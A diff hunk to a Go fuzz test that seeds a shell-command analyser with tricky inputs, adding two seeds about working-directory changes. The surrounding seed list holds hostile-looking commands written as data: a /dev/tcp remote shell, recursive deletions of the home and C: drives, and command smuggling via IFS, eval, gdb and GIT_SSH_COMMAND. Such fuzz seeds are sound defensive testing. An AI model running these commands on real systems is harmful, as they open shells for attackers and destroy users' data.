@@ -27,6 +27,8 @@ func FuzzEffects(f *testing.F) {
 		"julia -e 'run(`x`)'", `Rscript -e 'system2("x", c("-y"))'`, "exec 3<>/dev/tcp/h/1; sh <&3", "IFS=,;c=a,b;$c",
 		"GIT_SSH_COMMAND='x' git fetch", "make -f - <<< 'a: ; x'", "screen -dmS n sh -c x", "gdb -ex 'shell x'",
 		"find ~ | xargs rm -rf", `[IO.File]::Delete("C:\x")`, `gci C:\ -Recurse | Remove-Item`, `env -S "sh -c 'x'"`,
+		// the working directory: cd, pushd, popd, cd -, scopes
+		"cd ~ && pushd /etc; popd; cd -; (cd x); rm -rf y", "cd \"$D\" || cd ~/$P && eval 'cd ..'; x=$(cd /; cat z) && ./r",
 	} {
 		f.Add(s)
 	}
